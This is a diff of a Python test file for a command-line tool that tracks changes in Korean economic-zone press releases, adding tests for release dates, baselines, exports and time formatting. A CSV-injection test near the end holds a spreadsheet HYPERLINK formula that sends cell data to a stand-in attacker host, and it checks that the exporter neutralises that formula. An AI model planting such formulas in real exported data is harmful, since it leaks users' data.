@@ -6,9 +6,9 @@ import csv
 import datetime as dt
 import io
 import json
+import re
 from collections.abc import Iterator
 from pathlib import Path
-from typing import Any
 
 import pytest
 from click.testing import CliRunner
@@ -16,6 +16,7 @@ from click.testing import CliRunner
 from tests.cli.conftest import Run
 from zonewatch.app import App, configure
 from zonewatch.changes.diffing import diff_text
+from zonewatch.changes.export import EXPORT_FIELDS, ExportRow, write_csv
 from zonewatch.cli.main import cli
 from zonewatch.models import (
     ChangeEntity,
@@ -28,6 +29,7 @@ from zonewatch.models import (
 )
 
 KST = dt.timezone(dt.timedelta(hours=9))
+RELEASED = dt.datetime(2026, 3, 2, 9, tzinfo=KST)
 OLD_BODY = "송도 바이오 클러스터에 597억 원을 투입한다.\n목표 입주기업 250개사.\n"
 NEW_BODY = "송도 바이오 클러스터에 650억 원을 투입한다.\n목표 입주기업 250개사.\n"
 
@@ -58,11 +60,15 @@ def fact_source(version: DocumentVersion, url: str) -> dict[str, object]:
 @pytest.fixture
 def seeded(zonewatch: Run, app: App) -> dict[str, int]:
     """After `zonewatch init`: a changed release about Songdo (with a fact and an attachment
-    change) and a new ODZ release; the ids of their records by kind."""
+    change; the fact record, made before records stored release dates, has none of its own),
+    a new ODZ release found by Busan's first crawl (a baseline) and a model change; the ids
+    of their records by kind."""
     zonewatch("init")
     url = "https://www.ifez.go.kr/view/42"
     with app.session() as session:
-        document = Document(source_id="ifez-press", external_id="42", url=url)
+        document = Document(
+            source_id="ifez-press", external_id="42", url=url, published_at=RELEASED
+        )
         session.add(document)
         session.flush()
         old, new = version(document, 1, OLD_BODY), version(document, 2, NEW_BODY)
@@ -79,6 +85,7 @@ def seeded(zonewatch: Run, app: App) -> dict[str, int]:
             "old_version_id": old.id,
             "new_version_id": new.id,
             "occurred_at": dt.datetime(2026, 3, 2, 10, tzinfo=KST),
+            "released_at": RELEASED,
         }
         records = {
             "changed_document": ChangeRecord(
@@ -111,7 +118,7 @@ def seeded(zonewatch: Run, app: App) -> dict[str, int]:
                         }
                     ]
                 },
-                **common,
+                **{**common, "released_at": None},
             ),
             "attachment_replaced": ChangeRecord(
                 kind="attachment_replaced",
@@ -132,13 +139,22 @@ def seeded(zonewatch: Run, app: App) -> dict[str, int]:
                 significance=0.5,
                 source_id="busan-press",
                 occurred_at=dt.datetime(2026, 3, 5, 9, tzinfo=KST),
+                released_at=dt.datetime(2026, 3, 4, 15, tzinfo=KST),
+                baseline=True,
+            ),
+            "model_change": ChangeRecord(
+                kind="model_change",
+                title="kfez renamed",
+                significance=0.8,
+                occurred_at=dt.datetime(2026, 3, 1, 8, tzinfo=KST),
             ),
         }
+        about_of = {"new_document": "odz-busan", "model_change": "kfez"}
         for kind, record in records.items():
             record.dedupe_key = f"cli-test:{kind}"
-            about = "odz-busan" if kind == "new_document" else "ifez-songdo"
+            about = about_of.get(kind, "ifez-songdo")
             record.entities = [ChangeEntity(entity_id=about)]
-            record.topics = [ChangeTopic(topic_id="plan")] if kind != "new_document" else []
+            record.topics = [ChangeTopic(topic_id="plan")] if kind not in about_of else []
             session.add(record)
         session.flush()
         return {kind: record.id for kind, record in records.items()}
@@ -146,16 +162,26 @@ def seeded(zonewatch: Run, app: App) -> dict[str, int]:
 
 def test_list_as_table_json_and_csv(zonewatch: Run, seeded: dict[str, int]) -> None:
     table = zonewatch("changes", "list").stdout
-    assert "when (KST)" in table
-    assert "2026-03-02 10:00" in table
+    assert "released" in table
+    assert "detected" in table
+    assert "2026-03-02 09:00 KST" in table
+    assert "2026-03-02 10:00 KST" in table
     assert "부산 기회발전특구 추가 지정" in table
-    assert "4 changes" in table
+    assert "new_document (baseline)" in table
+    assert "no release date" in table
+    assert "5 changes" in table
 
     rows = json.loads(zonewatch("changes", "list", "--entity", "ifez", "--format", "json").stdout)
     assert {row["id"] for row in rows} == {
         seeded[kind] for kind in ("changed_document", "fact_change", "attachment_replaced")
     }
     assert all(row["entities"] == ["ifez-songdo"] and row["topics"] == ["plan"] for row in rows)
+    assert {row["released_at"] for row in rows} == {"2026-03-02T09:00:00+09:00"}
+    assert {row["detected_at"] for row in rows} == {"2026-03-02T10:00:00+09:00"}
+    by_kind = {row["kind"]: row for row in rows}
+    assert by_kind["fact_change"]["release_date_from"] == "document"
+    assert by_kind["changed_document"]["release_date_from"] == "record"
+    assert {row["url"] for row in rows} == {"https://www.ifez.go.kr/view/42"}
 
     text = zonewatch(
         "changes", "list", "--zone-type", "odz", "--since", "2026-03-03", "--format", "csv"
@@ -163,12 +189,107 @@ def test_list_as_table_json_and_csv(zonewatch: Run, seeded: dict[str, int]) -> N
     parsed = list(csv.DictReader(io.StringIO(text)))
     assert [row["id"] for row in parsed] == [str(seeded["new_document"])]
     assert parsed[0]["entities"] == "odz-busan"
-    assert text.splitlines()[0].startswith("id,occurred_at,created_at,kind")
+    assert parsed[0]["baseline"] == "true"
+    assert parsed[0]["released_at"] == "2026-03-04 15:00 KST"
+    assert text.splitlines()[0] == ",".join(EXPORT_FIELDS)
 
     kinds = zonewatch(
         "changes", "list", "--kind", "fact_change", "--kind", "new_document", "--format", "json"
     ).stdout
     assert {row["kind"] for row in json.loads(kinds)} == {"fact_change", "new_document"}
+
+
+def test_newest_release_first_without_a_date_by_detection(
+    zonewatch: Run, seeded: dict[str, int]
+) -> None:
+    """The Busan release (4 March) before the Songdo edits (2 March; the same detection time,
+    so newest record first) before the model change, which has no release date and was
+    applied on 1 March."""
+    rows = json.loads(zonewatch("changes", "list", "--format", "json").stdout)
+    assert [row["id"] for row in rows] == [
+        seeded["new_document"],
+        seeded["attachment_replaced"],
+        seeded["fact_change"],
+        seeded["changed_document"],
+        seeded["model_change"],
+    ]
+    model = rows[-1]
+    assert (model["released_at"], model["release_date_from"]) == (None, None)
+    assert model["detected_at"] == "2026-03-01T08:00:00+09:00"
+    released = zonewatch("changes", "list", "--until", "2026-03-02", "--format", "json").stdout
+    assert seeded["new_document"] not in {row["id"] for row in json.loads(released)}
+    detected = zonewatch(
+        "changes", "list", "--detected-since", "2026-03-05", "--format", "json"
+    ).stdout
+    assert [row["id"] for row in json.loads(detected)] == [seeded["new_document"]]
+
+
+def test_baselines_can_be_hidden_or_listed_alone(zonewatch: Run, seeded: dict[str, int]) -> None:
+    hidden = zonewatch("changes", "list", "--baseline", "hide").stdout
+    assert "부산 기회발전특구 추가 지정" not in hidden
+    assert "4 changes (1 baseline hidden: --baseline show lists them)" in hidden
+    alone = zonewatch("changes", "list", "--baseline", "only", "--format", "json").stdout
+    assert [row["id"] for row in json.loads(alone)] == [seeded["new_document"]]
+    assert "--baseline [show|hide|only]" in zonewatch("changes", "list", "--help").stdout
+
+
+def test_export_csv_and_json(zonewatch: Run, seeded: dict[str, int], tmp_path: Path) -> None:
+    said = zonewatch("changes", "export", "--output", "log.csv").stdout
+    assert said.strip() == "exported 5 changes to log.csv"
+    data = (tmp_path / "log.csv").read_bytes()
+    assert data.startswith("\ufeff".encode()), "spreadsheets read Korean as UTF-8"
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    assert list(rows[0]) == list(EXPORT_FIELDS)
+    by_id = {int(row["id"]): row for row in rows}
+    changed = by_id[seeded["changed_document"]]
+    assert changed["url"] == "https://www.ifez.go.kr/view/42"
+    assert (changed["released_at"], changed["detected_at"]) == (
+        "2026-03-02 09:00 KST",
+        "2026-03-02 10:00 KST",
+    )
+    assert (changed["kind"], changed["source"], changed["baseline"]) == (
+        "changed_document",
+        "ifez-press",
+        "false",
+    )
+    assert (changed["entities"], changed["topics"], changed["significance"]) == (
+        "ifez-songdo",
+        "plan",
+        "0.62",
+    )
+    assert changed["review_status"] == "new"
+    model = by_id[seeded["model_change"]]
+    assert (model["released_at"], model["url"]) == ("", "")
+
+    exported = json.loads(
+        zonewatch("changes", "export", "--format", "json", "--source", "busan-press").stdout
+    )
+    assert exported == [
+        {
+            "id": seeded["new_document"],
+            "released_at": "2026-03-04T15:00:00+09:00",
+            "detected_at": "2026-03-05T09:00:00+09:00",
+            "kind": "new_document",
+            "baseline": True,
+            "title": "부산 기회발전특구 추가 지정",
+            "url": None,
+            "source": "busan-press",
+            "entities": ["odz-busan"],
+            "topics": [],
+            "significance": 0.5,
+            "minor": False,
+            "review_status": "new",
+            "reviewed_by": None,
+            "review_note": None,
+            "summary": None,
+        }
+    ]
+    zonewatch("changes", "export", "--output", "log.json", "--baseline", "hide", "--limit", "2")
+    from_file = json.loads((tmp_path / "log.json").read_text("utf-8"))
+    assert [row["id"] for row in from_file] == [
+        seeded["attachment_replaced"],
+        seeded["fact_change"],
+    ]
 
 
 def test_a_narrow_terminal_gets_one_change_per_two_lines(app: App, seeded: dict[str, int]) -> None:
@@ -184,11 +305,11 @@ def test_a_narrow_terminal_gets_one_change_per_two_lines(app: App, seeded: dict[
     )
     assert result.exit_code == 0, result.output
     first, title, count = result.output.splitlines()
-    assert first.split() == [
+    assert first.split("  ") == [
         f"#{seeded['new_document']}",
-        "2026-03-05",
-        "09:00",
-        "new_document",
+        "2026-03-04 15:00 KST",
+        "2026-03-05 09:00 KST",
+        "new_document (baseline)",
         "0.50",
         "new",
         "busan-press",
@@ -220,13 +341,31 @@ def test_show_renders_diff_facts_attachments_and_evidence(
     assert "│" not in narrow
     assert "[-597억-]{+650억+}" in narrow
 
+    assert "released:     2026-03-02 09:00 KST\n" in wide
+    assert "detected:     2026-03-02 10:00 KST (recorded " in wide
+    assert "baseline:" not in wide
+
     fact = zonewatch("changes", "show", str(seeded["fact_change"]), "--no-color").stdout
+    assert "released:     2026-03-02 09:00 KST (the document's date)" in fact
     assert "investment (ifez-songdo): 597억 원 → 650억 원" in fact
     assert "https://www.ifez.go.kr/view/42?v=1" in fact
     assert "https://www.ifez.go.kr/view/42?v=2" in fact
 
     attachment = zonewatch("changes", "show", str(seeded["attachment_replaced"]), "--no-color")
     assert "계획.hwp <https://x/1> → 계획(수정).hwp <https://x/2>" in attachment.stdout
+
+
+def test_show_marks_a_baseline_and_says_when_there_is_no_release_date(
+    zonewatch: Run, seeded: dict[str, int]
+) -> None:
+    baseline = zonewatch("changes", "show", str(seeded["new_document"]), "--no-color").stdout
+    first = baseline.splitlines()[0]
+    assert first == f"#{seeded['new_document']} new_document (baseline)"
+    assert "baseline:     yes: already published when the source's first crawl found it" in baseline
+    assert "released:     2026-03-04 15:00 KST\n" in baseline
+    model = zonewatch("changes", "show", str(seeded["model_change"]), "--no-color").stdout
+    assert "released:     no release date (not a document)" in model
+    assert "detected:     2026-03-01 08:00 KST" in model
 
 
 def test_review_marks_noise_and_learns_fragments(zonewatch: Run, seeded: dict[str, int]) -> None:
@@ -244,16 +383,54 @@ def test_review_marks_noise_and_learns_fragments(zonewatch: Run, seeded: dict[st
 
 def test_timeline_oldest_first(zonewatch: Run, seeded: dict[str, int]) -> None:
     events = json.loads(zonewatch("timeline", "ifez", "--format", "json").stdout)
-    times = [dt.datetime.fromisoformat(event["at"]) for event in events]
-    assert times == sorted(times)
-    changes = [event["id"] for event in events if event["type"] == "change"]
-    assert set(changes) == {
+    placed = [
+        dt.datetime.fromisoformat(event["released_at"] or event["detected_at"]) for event in events
+    ]
+    assert placed == sorted(placed)
+    changes = [event for event in events if event["type"] == "change"]
+    assert {event["id"] for event in changes} == {
         seeded[kind] for kind in ("changed_document", "fact_change", "attachment_replaced")
     }
-    assert any(event["type"] == "model" and event["entities"] == ["ifez"] for event in events)
+    assert {event["released_at"] for event in changes} == {"2026-03-02T09:00:00+09:00"}
+    assert {event["detected_at"] for event in changes} == {"2026-03-02T10:00:00+09:00"}
+    models = [event for event in events if event["type"] == "model"]
+    assert any(event["entities"] == ["ifez"] for event in models)
+    assert all(event["released_at"] is None for event in models)
     table = zonewatch("timeline", "odz-busan").stdout
     assert "부산 기회발전특구 추가 지정" in table
     assert f"#{seeded['new_document']}" in table
+    assert "new_document (baseline)" in table
+    assert "2026-03-04 15:00 KST" in table
+    assert "2026-03-05 09:00 KST" in table
+
+
+RAW_TIMES = re.compile(r"\d:\d\d:\d\d\.\d|\+00:00|\d\dZ\b|T\d\d:\d\d:\d\d(?!\+09:00)")
+
+
+def test_every_output_has_one_time_format(zonewatch: Run, seeded: dict[str, int]) -> None:
+    """People read KST to the minute; JSON carries ISO 8601 in KST to the second. Never raw
+    UTC, never microseconds."""
+    outputs = {
+        args: zonewatch(*args).stdout
+        for args in [
+            ("changes", "list"),
+            ("changes", "list", "--format", "json"),
+            ("changes", "list", "--format", "csv"),
+            ("changes", "export"),
+            ("changes", "export", "--format", "json"),
+            ("changes", "show", str(seeded["changed_document"]), "--no-color"),
+            ("changes", "show", str(seeded["changed_document"]), "--json"),
+            ("timeline", "ifez"),
+            ("timeline", "ifez", "--format", "json"),
+            ("entities", "show", "ifez"),
+            ("entities", "show", "ifez", "--json"),
+        ]
+    }
+    for args, text in outputs.items():
+        assert not RAW_TIMES.search(text), (args, RAW_TIMES.search(text))
+        assert re.search(r"\d{4}-\d\d-\d\d[ T]\d\d:\d\d", text), args
+    people = [text for args, text in outputs.items() if "json" not in " ".join(args)]
+    assert all(" KST" in text for text in people)
 
 
 MISTAKES = [
@@ -263,6 +440,14 @@ MISTAKES = [
     (("changes", "list", "--entity", "atlantis"), "error: unknown entity 'atlantis'"),
     (("changes", "list", "--zone-type", "ifez"), "error: 'ifez' is a fez, not a zone type"),
     (("changes", "review", "1", "--status", "new"), "Invalid value for '--status'"),
+    (("changes", "list", "--baseline", "maybe"), "Invalid value for '--baseline'"),
+    (("changes", "list", "--since", "2026-13-01"), "Invalid value for '--since'"),
+    (
+        ("changes", "export", "--detected-until", "yesterday"),
+        "Invalid value for '--detected-until'",
+    ),
+    (("changes", "export", "--format", "xlsx"), "Invalid value for '--format'"),
+    (("changes", "export", "--output", "missing/log.csv"), "error: missing/log.csv: "),
 ]
 
 
@@ -276,24 +461,32 @@ def test_mistakes_exit_2_with_a_clear_message(zonewatch: Run) -> None:
             assert len(result.stderr.strip().splitlines()) == 1, args
 
 
-def test_csv_cells_from_crawled_titles_cannot_be_formulas(
-    capsys: pytest.CaptureFixture[str],
-) -> None:
+def test_csv_cells_from_crawled_titles_cannot_be_formulas() -> None:
     """Titles are scraped: ``=HYPERLINK(...)`` must open as text, not run as a formula."""
-    from zonewatch.cli.changes import CSV_FIELDS, _print_csv
-
-    row: dict[str, Any] = dict.fromkeys(CSV_FIELDS)
-    row.update(
+    row = ExportRow(
         id=1,
+        released_at=None,
+        detected_at=RELEASED,
+        kind="new_document",
+        baseline=False,
         title='=HYPERLINK("https://evil.example/?"&A1,"클릭")',
-        summary="+82 2 0000",
-        entities=["@odz"],
-        topics=[],
+        url="https://www.ifez.go.kr/view/42",
+        source="ifez-press",
+        entities=("@odz",),
+        topics=(),
         significance=-0.0,
+        minor=False,
+        review_status="new",
+        reviewed_by=None,
+        review_note="-1 = noise",
+        summary="+82 2 0000",
     )
-    _print_csv([row])
+    out = io.StringIO()
+    write_csv([row], out)
 
-    [parsed] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    [parsed] = list(csv.DictReader(io.StringIO(out.getvalue())))
     assert parsed["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"클릭")'
     assert parsed["summary"] == "'+82 2 0000"
     assert parsed["entities"] == "'@odz"
+    assert parsed["review_note"] == "'-1 = noise"
+    assert parsed["significance"] == "-0.0"
